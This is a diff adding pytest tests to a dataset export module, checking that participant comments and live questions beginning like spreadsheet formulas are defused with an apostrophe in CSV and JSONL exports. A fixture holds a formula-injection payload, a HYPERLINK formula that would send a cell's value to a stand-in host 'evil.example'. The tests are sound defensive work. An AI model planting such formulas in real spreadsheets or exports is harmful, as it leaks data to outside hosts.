@@ -1,5 +1,6 @@
 """The export: compar:IA's columns and types, its conventions, pseudonyms, what is left out."""
 
+import csv
 import io
 import json
 import zipfile
@@ -9,6 +10,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
+from duels.models import Prompt
 from tests.live_fixtures import phone
 from workshop import dataset, dataset_files, simulation
 from workshop.dataset import Selection
@@ -269,3 +271,121 @@ def test_a_zip_export_holds_every_table(voted):
         assert names == {f"{t}.parquet" for t in dataset.TABLES} | {"README.md"}
         table = pq.read_table(io.BytesIO(archive.read("votes.parquet")))
     assert table.num_rows == 3
+
+
+# Spreadsheets: a text that begins like a formula leaves CSV and JSONL defused -------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Cliquez")'
+LIVE_QUESTION = "-1+1 font combien ? Une question posée en direct."
+
+
+@pytest.fixture
+def formulas(voting):
+    """A participant's comments that a spreadsheet would run, and a live question that
+    begins like one (the round's prompt is where a live question's text goes)."""
+    Organisation.objects.filter(pk=voting.organisation_id).update(export_free_text=True)
+    Prompt.objects.filter(pk=voting.round.generation_a.prompt_id).update(text=LIVE_QUESTION)
+    vote(
+        voting.phones[0],
+        voting.round,
+        "a",
+        {"a": ["useful"], "b": ["incorrect"]},
+        comment_a=FORMULA,
+        comment_b="@SUM(1+1)",
+    )
+    return voting
+
+
+def csv_rows(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def jsonl_rows(text: str) -> list[dict]:
+    return [json.loads(line) for line in text.splitlines()]
+
+
+def assert_defused(tables: dict[str, list[dict]]):
+    """Every place a formula or the live question reaches, as a spreadsheet would read it."""
+    [vote_row] = tables["votes"]
+    assert vote_row["conv_comments_a"] == "'" + FORMULA
+    assert vote_row["conv_comments_b"] == "'@SUM(1+1)"
+    assert vote_row["opening_msg"] == "'" + LIVE_QUESTION
+    [conversation] = tables["conversations"]
+    assert conversation["opening_msg"] == "'" + LIVE_QUESTION
+    comments = {row["comment"] for row in tables["reactions"]}
+    assert {"'" + FORMULA, "'@SUM(1+1)"} <= comments
+    assert all(row["opening_msg"] == "'" + LIVE_QUESTION for row in tables["reactions"])
+    assert all(row["question_content"] == "'" + LIVE_QUESTION for row in tables["reactions"])
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_formula_comment_and_a_live_question_leave_csv_and_jsonl_defused(formulas, tmp_path, fmt):
+    dataset_files.export_to_directory(everything(), fmt, tmp_path)
+    read = csv_rows if fmt == "csv" else jsonl_rows
+    tables = {
+        name: read((tmp_path / f"{name}.{fmt}").read_text(encoding="utf-8"))
+        for name in ("votes", "conversations", "reactions")
+    }
+    assert_defused(tables)
+    assert FORMULA not in {row["conv_comments_a"] for row in tables["votes"]}
+    # Numbers stay numbers; the card says what was done, so analysts can undo it.
+    if fmt == "jsonl":
+        assert tables["votes"][0]["conv_turns"] == 1
+    card = (tmp_path / "README.md").read_text(encoding="utf-8")
+    assert "précédé d'une apostrophe" in card
+
+
+def test_a_zip_archive_in_csv_is_defused_too(formulas):
+    sink = io.BytesIO()
+    dataset_files.export_to_zip(everything(), "csv", sink)
+    with zipfile.ZipFile(io.BytesIO(sink.getvalue())) as archive:
+        tables = {
+            name: csv_rows(archive.read(f"{name}.csv").decode())
+            for name in ("votes", "conversations", "reactions")
+        }
+    assert_defused(tables)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_a_streamed_table_is_defused_in_every_chunk(formulas, fmt):
+    read = csv_rows if fmt == "csv" else jsonl_rows
+    for name in ("votes", "conversations", "reactions"):
+        text = b"".join(dataset_files.stream_text(name, everything(), fmt)).decode()
+        assert FORMULA not in [row.get("conv_comments_a") for row in read(text)]
+        assert all(row["opening_msg"] == "'" + LIVE_QUESTION for row in read(text))
+
+
+def test_parquet_keeps_the_texts_as_they_were_typed(formulas):
+    sink = io.BytesIO()
+    dataset_files.export_to_zip(everything(), "parquet", sink)
+    with zipfile.ZipFile(io.BytesIO(sink.getvalue())) as archive:
+        votes = pq.read_table(io.BytesIO(archive.read("votes.parquet"))).to_pylist()
+        reactions = pq.read_table(io.BytesIO(archive.read("reactions.parquet"))).to_pylist()
+    assert votes[0]["conv_comments_a"] == FORMULA
+    assert votes[0]["opening_msg"] == LIVE_QUESTION
+    assert FORMULA in {row["comment"] for row in reactions}
+
+
+def test_only_texts_are_defused_never_numbers():
+    row = {
+        "energy": -1.5,
+        "turns": -2,
+        "equal": True,
+        "empty": "",
+        "pair": ["=a", "b"],
+        "nested": {"content": "+cmd", "tab": "\tx", "return": "\rx"},
+        "plain": "Très clair = juste",
+    }
+    assert dataset_files.spreadsheet_safe(row) == {
+        "energy": -1.5,
+        "turns": -2,
+        "equal": True,
+        "empty": "",
+        "pair": ["'=a", "b"],
+        "nested": {"content": "'+cmd", "tab": "'\tx", "return": "'\rx"},
+        "plain": "Très clair = juste",
+    }
+    table = pa.table({"gwp": [-0.5], "comment": ["-0.5"]})
+    sink = io.BytesIO()
+    dataset_files.write_csv(table.to_batches(), table.schema, sink)
+    assert sink.getvalue().decode().splitlines() == ["gwp,comment", "-0.5,'-0.5"]
